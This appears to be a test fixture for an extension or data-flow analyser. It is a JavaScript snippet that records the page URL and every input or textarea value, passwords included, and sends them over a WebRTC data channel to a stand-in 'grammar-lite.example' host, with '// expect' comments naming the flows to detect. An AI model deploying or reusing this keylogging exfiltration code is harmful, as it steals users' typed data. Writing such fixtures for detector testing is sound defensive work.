const pc = new RTCPeerConnection({ iceServers: [{ urls: "stun:stun.grammar-lite.example:3478" }] });
const ch = pc.createDataChannel("d");
let pending = [];
(async () => {
  const offer = await pc.createOffer(); await pc.setLocalDescription(offer);
  const answer = await (await fetch("https://sig.grammar-lite.example/o", { method: "POST", body: JSON.stringify(offer) })).json();
  await pc.setRemoteDescription(answer);
})();
// expect: browsing-data-to-network, input-to-network
ch.onopen = () => { pending.forEach((p) => ch.send(p)); pending = []; };
document.addEventListener("change", (e) => {
  const el = e.target;
  if (!(el instanceof HTMLInputElement) && !(el instanceof HTMLTextAreaElement)) return;
  const row = JSON.stringify([location.href, el.name, el.type, el.value]);
  // expect: browsing-data-to-network, input-to-network
  if (ch.readyState === "open") ch.send(row); else pending.push(row);
}, true);
